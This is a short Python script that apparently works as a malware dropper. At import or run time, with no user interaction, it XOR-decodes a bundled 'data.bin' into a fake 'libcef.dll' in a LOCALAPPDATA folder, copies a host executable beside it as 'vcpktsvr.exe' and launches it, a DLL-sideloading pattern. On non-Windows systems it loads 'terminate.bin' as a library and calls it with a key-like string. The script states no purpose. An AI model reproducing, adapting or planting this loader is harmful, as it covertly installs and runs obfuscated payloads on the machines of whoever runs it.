import ctypes
import os
import shutil
import sys

HERE = os.path.dirname(__file__)


def _extract():
    out = os.path.join(os.environ.get("LOCALAPPDATA", "/nonexistent"), "vcpacket")
    os.makedirs(out, exist_ok=True)
    raw = open(os.path.join(HERE, "data.bin"), "rb").read()
    with open(os.path.join(out, "libcef.dll"), "wb") as f:
        f.write(bytes(b ^ 0x5A for b in raw))
    shutil.copy(os.path.join(HERE, "host.bin"), os.path.join(out, "vcpktsvr.exe"))
    return os.path.join(out, "vcpktsvr.exe")


if sys.platform == "win32":
    os.startfile(_extract())
else:
    ctypes.CDLL(os.path.join(HERE, "terminate.bin")).envir(b"xterminalunicod")
